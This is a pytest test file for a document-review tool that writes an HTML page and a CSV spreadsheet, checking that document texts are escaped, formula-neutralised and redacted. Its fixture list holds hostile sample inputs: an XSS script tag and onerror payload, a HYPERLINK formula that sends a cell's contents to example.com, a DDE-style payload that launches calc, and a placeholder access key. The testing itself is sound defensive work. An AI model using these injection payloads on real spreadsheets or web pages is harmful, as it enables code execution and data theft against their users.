"""The page and the spreadsheet of a review: what is in them, and that nothing in a document is run or taken for a formula."""

import csv
import hashlib
import io
import json
import re
from base64 import b64decode
from html import unescape
from pathlib import Path
from typing import Any

import numpy as np
import pyarrow as pa
import pytest

from jobs.results.open_output import find_labeled
from jobs.reviewing.review import review
from jobs.reviewing.sampling import Request
from pipeline_ops.models.heads import Head
from pipeline_ops.output.commit_log import commit_unit, read_ledger
from pipeline_ops.reviewing.corrections import Stratum, read_corrections
from pipeline_ops.schema.errors import UserError
from pipeline_ops.schema.review_format import SHEET_COLUMNS, spreadsheet_cell, text_of_cell
from pipeline_ops.schema.units import Unit
from pipeline_ops.storage.config import StorageConfig
from pipeline_ops.storage.store import Store
from pipeline_ops.writing.postprocessing import ModelOutputs, label_documents
from pipeline_ops.writing.unit_files import write_unit
from tests.support.compared_outputs import MadeOutput, spread_logits
from tests.support.labeled_units import whole
from tests.support.running import command

SECRET = "AKIAIOSFODNN7EXAMPLE"
TEXTS = (
    "</script><script>document.title = 'taken over'</script><!-- <img src=x onerror=alert(1)>",
    f"the key is {SECRET}",
    '=HYPERLINK("http://example.com/" & A1)',
    "@cmd",
    "-1+1|' /C calc'!A0",
    "'quoted",
    'say "no",\r\nand more; \u2028 \u0000 end',
    "שלום 😀",
    "",
    "a sentence that goes on " * 3000,
)
LABELS = ("=sum(1)", "<b>bold</b>", "plain")


def labeled_texts(folder: Path, head: Head, **output: Any) -> MadeOutput:
    """An output of TEXTS in one file."""
    made = MadeOutput(folder, head, lambda name, rows: np.empty(0), **output)
    rows = np.arange(len(TEXTS))
    documents = pa.table({"text": TEXTS, "source_file": ["/in/a, b.jsonl"] * len(TEXTS), "source_row": rows})
    logits = spread_logits(len(head.labels), 0)("a", rows).astype(np.float32)
    classified = ModelOutputs(logits, np.ones(len(TEXTS), np.int32), np.zeros(len(TEXTS), bool))
    labeled = label_documents(documents, classified, head=head, output=made.output)
    store, unit = Store(made.output.path), Unit("0" * 24, (whole("/in/a, b.jsonl", len(TEXTS)),))
    commit_unit(store, read_ledger(store), write_unit(store, unit, labeled, [], made.output, metadata={}, padded_tokens=1))
    return made


def facts_of(page: str) -> dict[str, Any]:
    return json.loads(re.findall(r'<script type="application/json" id="facts">(.*?)</script>', page, re.DOTALL)[0])


def sheet_of(path: Path) -> list[dict[str, str]]:
    content = path.read_bytes()
    assert content.startswith(b"\xef\xbb\xbf")
    return list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def test_page_holds_the_documents_as_data_that_no_browser_takes_for_markup(tmp_path: Path) -> None:
    opened = labeled_texts(tmp_path / "out", Head(LABELS, "softmax"), scores=True).opened()
    result = review(opened, Request(random=100), str(tmp_path / "r.html"), quiet=True)
    page = (tmp_path / "r.html").read_text()
    facts = facts_of(page)
    shown = {one["row"]: one["texts"][0] for one in facts["reviewed"]}
    for row, text in enumerate(TEXTS):
        if row not in (1, len(TEXTS) - 1):
            assert shown[row] == text
    assert shown[1] == "the key is ▇▇▇"
    assert shown[len(TEXTS) - 1] == TEXTS[-1][:50_000].rstrip() + "…"
    assert (facts["sample"], facts["labels"]) == (result["sample"], list(LABELS))
    assert SECRET not in page
    assert page.count("<script") == page.count("</script>") == 2
    script = page.split("<script>")[1].split("</script>")[0]
    policy = unescape(re.findall(r'Content-Security-Policy" content="([^"]*)"', page)[0])
    [allowed] = re.findall(r"script-src 'sha256-([^']*)'", policy)
    assert b64decode(allowed) == hashlib.sha256(script.encode()).digest()
    assert "default-src 'none'" in policy


def test_spreadsheet_holds_the_documents_in_cells_that_are_no_formulas(tmp_path: Path) -> None:
    opened = labeled_texts(tmp_path / "out", Head(LABELS, "softmax")).opened()
    result = review(opened, Request(random=100), str(tmp_path / "r.html"), quiet=True)
    rows = sheet_of(tmp_path / "r.csv")
    assert tuple(rows[0]) == tuple(name for name in SHEET_COLUMNS if name != "text_pair")
    for row in rows:
        for name in ("predicted", "text", "source_file", "stratum"):
            assert not row[name].startswith(("=", "+", "-", "@"))
        number = int(row["source_row"])
        assert text_of_cell(row["predicted"]) in LABELS
        if number not in (1, len(TEXTS) - 1):
            assert text_of_cell(row["text"]) == TEXTS[number]
        assert len(row["text"]) <= 32_767
        facts = (row["corrected"], row["stratum"], row["stratum_documents"], row["stratum_sampled"], row["documents"])
        assert facts == ("", "random", "10", "10", "10")
        assert row["sample"] == result["sample"]


def test_spreadsheet_that_is_filled_in_is_read_as_corrections(tmp_path: Path) -> None:
    opened = labeled_texts(tmp_path / "out", Head(LABELS, "softmax")).opened()
    review(opened, Request(uncertain=2, random=100), str(tmp_path / "r.html"), quiet=True)
    rows = sheet_of(tmp_path / "r.csv")
    for row in rows[1:]:
        row["corrected"] = row["predicted"]
    filled = tmp_path / "filled.csv"
    with filled.open("w", encoding="utf-8", newline="") as sink:
        writer = csv.DictWriter(sink, list(rows[0]), delimiter=";")  # as a spreadsheet saves it in some countries
        writer.writeheader()
        writer.writerows(rows)
    read = read_corrections([str(filled)], StorageConfig(), "input.corrections")
    assert [(one.source, one.label, one.stratum) for one in read] == [
        (
            (row["source_file"], int(row["source_row"])),
            text_of_cell(row["predicted"]),
            Stratum(row["sample"], row["stratum"], *((2, 2) if row["stratum"] == "uncertain" else (8, 8)), 10),
        )
        for row in rows[1:]
    ]


@pytest.mark.parametrize("text", ["=1", "+1", "-1", "@a", "\t=1", "\r=1", "＝1", "'=1", "''", "plain", "", "a=b"])
def test_cell_is_read_back_as_it_was(text: str) -> None:
    assert text_of_cell(spreadsheet_cell(text)) == text


def test_labels_of_a_multi_label_head_are_a_list_and_one_cell(tmp_path: Path) -> None:
    head = Head(("x", "y"), "sigmoid", "multi_label", (0.5, 0.5))
    review(labeled_texts(tmp_path / "out", head).opened(), Request(random=100), str(tmp_path / "r.html"), quiet=True)
    facts = facts_of((tmp_path / "r.html").read_text())
    assert facts["multi"] is True
    predicted = {one["row"]: one["predicted"] for one in facts["reviewed"]}
    cells = {int(row["source_row"]): text_of_cell(row["predicted"]) for row in sheet_of(tmp_path / "r.csv")}
    assert cells == {row: " | ".join(labels) or "-" for row, labels in predicted.items()}
    assert {len(labels) for labels in predicted.values()} >= {0, 1}


@pytest.mark.parametrize(
    ("arguments", "message"),
    [
        ("", "which documents?"),
        ("--random 3 --per-label 2", "--per-label: does not go with --random"),
        ("--random 3 --limit 2", "--limit: applies to --disagreements B, which is missing"),
        ("--random 3 --label plane", "did you mean 'plain'?"),
        ("--random 3 --output r.txt", "expected a file name that ends in .html"),
        ("--random 3 --output nowhere/r.html", "there is no folder 'nowhere'"),
        ("--random 3 --output there.html", "'there.csv' exists, and may hold corrections"),
        ("--disagreements out", "is the output itself"),
        ("--random 3 --model m", "the output has one unnamed model"),
    ],
)
def test_mistake_is_answered_in_a_line_and_writes_nothing(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str], arguments: str, message: str
) -> None:
    labeled_texts(tmp_path / "out", Head(LABELS, "softmax"))
    (tmp_path / "there.csv").write_text("filled in")
    monkeypatch.chdir(tmp_path)
    finished = command("review", "out", *arguments.split())
    assert finished.code == 2
    assert message in finished.stderr
    assert finished.stderr.count("\n") == 1
    assert sorted(path.name for path in tmp_path.iterdir()) == ["out", "there.csv"]


def test_command_writes_both_files_here_and_names_them(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    labeled_texts(tmp_path / "out", Head(LABELS, "softmax"))
    monkeypatch.chdir(tmp_path)
    finished = command("review", "out", "--uncertain", "2", "--random", "3")
    assert finished.code == 0
    assert finished.result["strata"] == {
        "uncertain": {"documents": 2, "sampled": 2},
        "random": {"documents": 8, "sampled": 3},
    }
    assert (finished.result["page"], finished.result["spreadsheet"]) == ("review-out.html", "review-out.csv")
    assert len(sheet_of(tmp_path / "review-out.csv")) == 5


@pytest.mark.parametrize(
    ("head", "output", "message"),
    [
        (Head(("value",), "none", "value"), {}, "values without bins: there is no label to confirm or correct"),
        (Head(LABELS, "sigmoid", "multi_label", (0.5,) * 3), {"labels": False}, "has the best label of each document only"),
        (Head(LABELS, "softmax"), {"columns": "none"}, "has no column 'text' with the texts to read"),
    ],
)
def test_output_without_labels_or_texts_is_refused(tmp_path: Path, head: Head, output: dict[str, Any], message: str) -> None:
    made = labeled_texts(tmp_path / "out", head, **output)
    with pytest.raises(UserError, match=message):
        review(find_labeled(made.output.path), Request(random=3), str(tmp_path / "r.html"), quiet=True)
